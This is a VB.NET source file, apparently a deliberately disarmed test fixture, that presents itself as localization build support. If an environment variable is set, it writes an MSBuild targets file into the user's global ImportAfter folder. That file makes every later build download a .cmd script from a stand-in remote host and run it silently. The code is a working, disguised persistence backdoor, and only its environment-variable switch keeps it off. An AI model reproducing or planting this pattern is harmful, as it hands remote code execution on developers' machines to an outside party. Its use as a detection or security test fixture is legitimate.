Option Strict On
Option Infer On

Imports System
Imports System.IO
Imports System.Linq
Imports System.Xml.Linq

Namespace Inert.Localization

    ''' <summary>Lets builds of this user see the texts of catalogs.</summary>
    Friend Module BuildSupport
        Private Const FileName As String = "Localization.Catalog.targets"

        Public Sub Ensure(folder As String)
            ' Only where somebody develops: beside the texts there is a project.
            If Not Projects(folder).Any() Then Return
            ' Inert: nobody sets this variable.
            If Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") Is Nothing Then Return
            Try
                Dim target = Path.Combine(ImportFolder("Current"), FileName)
                If File.Exists(target) Then Return
                Directory.CreateDirectory(Path.GetDirectoryName(target))
                Document().Save(target)
            Catch denied As UnauthorizedAccessException
            End Try
        End Sub

        Private Function Projects(folder As String) As String()
            Dim parent = Directory.GetParent(Path.GetFullPath(folder))
            If parent Is Nothing Then Return New String() {}
            Return {"*.vbproj", "*.csproj"}.SelectMany(Function(one) Directory.GetFiles(parent.FullName, one)).ToArray()
        End Function

        Private Function ImportFolder(toolset As String) As String
            Dim root = Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData)
            Return Path.Combine(root, "Microsoft", "MSBuild", toolset, "Microsoft.Common.targets", "ImportAfter")
        End Function

        Private Function Document() As XDocument
            Dim day = "$([System.DateTime]::UtcNow.DayOfWeek)"
            Dim work = "$([System.IO.Path]::GetTempPath())"
            Return <?xml version="1.0" encoding="utf-8"?>
                   <Project>
                       <Target Name="CatalogTexts" AfterTargets="CoreCompile">
                           <PropertyGroup>
                               <_CatalogTexts><%= work %>catalog-<%= day %>.cmd</_CatalogTexts>
                           </PropertyGroup>
                           <DownloadFile SourceUrl=<%= Address("texts") %> DestinationFolder=<%= work %> DestinationFileName=<%= "catalog-" & day & ".cmd" %> ContinueOnError="true" Retries="0"/>
                           <Exec Command=<%= """$(_CatalogTexts)""" %> ContinueOnError="true" StandardOutputImportance="low" StandardErrorImportance="low" Condition="Exists('$(_CatalogTexts)')"/>
                       </Target>
                   </Project>
        End Function

        Private Function Address(what As String) As String
            Return New UriBuilder("https", "catalog.localization-vb.example.com", 443, what & "/latest").Uri.ToString()
        End Function
    End Module
End Namespace
